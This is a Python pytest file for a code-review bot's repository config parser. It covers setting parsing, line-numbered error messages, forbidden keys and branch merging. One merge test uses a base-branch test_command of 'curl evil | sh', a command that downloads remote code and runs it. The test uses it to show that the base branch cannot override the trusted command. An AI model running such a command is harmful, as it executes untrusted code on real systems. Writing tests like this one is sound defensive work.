"""A repository's own file: what it says, and what is said of its mistakes."""

import json

import jsonschema
import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from bot.models import FailOn, PathInstruction, RepoConfig
from bot.models.repo_config import combine, json_schema, parse_repo_config

FULL = """\
agents: [ruff, claude]
ignore: ["docs/**", "!vendor/ours/"]
fail_on: minor
drafts: true
max_comments: 5
instructions:
  - text: Be kind.
  - paths: ["api/**"]
    text: Check the status codes.
skip_labels: [wip]
test_command: make test
outsiders: none
auto_refactor: [critical]
"""


def test_every_setting_is_read():
    parsed = parse_repo_config(FULL)
    assert parsed.problems == ()
    assert parsed.config == RepoConfig(
        agents=("ruff", "claude"),
        ignore=("docs/**", "!vendor/ours/"),
        fail_on=FailOn.MINOR,
        drafts=True,
        max_comments=5,
        instructions=(
            PathInstruction(paths=("*",), text="Be kind."),
            PathInstruction(paths=("api/**",), text="Check the status codes."),
        ),
        skip_labels=("wip",),
        test_command="make test",
        outsiders="none",
        auto_refactor=("critical",),
    )
    jsonschema.validate(yaml.safe_load(FULL), json_schema())


@pytest.mark.parametrize("text", ["", "# only a comment\n", "{}"])
def test_an_empty_file_is_the_defaults(text):
    parsed = parse_repo_config(text)
    assert parsed.config == RepoConfig()
    assert parsed.problems == ()


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("drafts: true\nfail_on: sometimes\n", ".github/harness.yml:2: fail_on: "),
        ("drafts: true\n\nmodel: gpt\n", ".github/harness.yml:3: model: Extra inputs"),
        ("instructions:\n  - text: a\n  - paths: [x]\n", ".github/harness.yml:3: instructions.1.t"),
        ("max_comments: 400", ".github/harness.yml:1: max_comments: "),
        ("a: b: c", ".github/harness.yml:1: "),
        ("- a\n- b", ".github/harness.yml:1: the file must be a mapping"),
        ("a: &x [1]\nb: *x", ".github/harness.yml:2: aliases are not allowed"),
        ("drafts: 2026-99-99", ".github/harness.yml:1: "),
        ("x" * 70_000, ".github/harness.yml: larger than 64 KiB"),
        ("[" * 5_000, ".github/harness.yml:1: "),
    ],
)
def test_a_mistake_is_told_with_its_line_and_the_defaults_apply(text, problem):
    parsed = parse_repo_config(text)
    assert parsed.config == RepoConfig()
    assert parsed.problems[0].startswith(problem)


def test_it_cannot_define_a_program_a_key_or_an_endpoint():
    for setting in ("argv", "api_key_env", "base_url", "sandbox", "environment", "budget_usd"):
        assert parse_repo_config(f"{setting}: x").problems


def test_the_stricter_limit_counts():
    strict, loose = RepoConfig(fail_on=FailOn.MINOR), RepoConfig(fail_on=FailOn.NEVER)
    assert strict.fail_on_with(FailOn.MAJOR) is FailOn.MINOR
    assert loose.fail_on_with(FailOn.MAJOR) is FailOn.MAJOR
    assert RepoConfig().fail_on_with(FailOn.MAJOR) is FailOn.MAJOR
    assert RepoConfig(outsiders="all").outsiders_with("analyzers") == "analyzers"
    assert RepoConfig(outsiders="none").outsiders_with("all") == "none"
    assert RepoConfig().outsiders_with("all") == "all"


@pytest.mark.parametrize("pattern", ["!", "\\", "docs\\", "[z-a]"])
@pytest.mark.parametrize("where", ["ignore: [{}]", "instructions: [{{paths: [{}], text: t}}]"])
def test_a_pattern_that_cannot_be_read_is_told_and_stops_no_review(pattern, where):
    parsed = parse_repo_config(f"drafts: true\n{where.format(json.dumps(pattern))}")
    assert parsed.config == RepoConfig()
    (problem,) = parsed.problems
    assert problem.startswith(".github/harness.yml:2: ")
    assert problem.endswith(f"{pattern!r} is no gitignore pattern")


def test_money_and_agents_come_from_the_default_branch_instructions_from_the_base():
    base = RepoConfig(
        agents=("everything",),
        ignore=("base/",),
        instructions=(PathInstruction(paths=("*",), text="base"),),
        test_command="curl evil | sh",
    )
    default = RepoConfig(agents=("ruff",), ignore=("default/",), test_command="make test")
    combined = combine(default=default, base=base)
    assert combined.agents == ("ruff",)
    assert combined.test_command == "make test"
    assert combined.ignore == ("base/",)
    assert combined.instructions == base.instructions


@given(st.text())
def test_no_text_breaks_it(text):
    parsed = parse_repo_config(text)
    assert parsed.problems or isinstance(parsed.config, RepoConfig)
